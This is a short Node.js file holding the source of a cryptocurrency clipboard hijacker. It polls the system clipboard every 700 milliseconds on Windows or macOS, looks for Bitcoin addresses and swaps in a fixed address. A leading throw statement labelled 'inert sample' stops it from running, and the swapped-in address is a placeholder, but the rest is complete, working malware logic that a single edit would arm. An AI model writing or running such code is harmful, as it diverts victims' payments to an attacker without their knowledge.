throw new Error('inert sample');
const { execSync, spawn } = require('child_process');
const MINE = 'bc1qinertinertinertinertinertinertinert0000';
const address = /\b(bc1|[13])[a-zA-HJ-NP-Z0-9]{25,39}\b/;
const windows = process.platform === 'win32';
const get = () => execSync(windows ? 'powershell -command Get-Clipboard' : 'pbpaste').toString();
const set = (text) => { const copy = spawn(windows ? 'clip' : 'pbcopy'); copy.stdin.end(text); };
setInterval(() => { const held = get(); if (address.test(held)) set(held.replace(address, MINE)); }, 700);
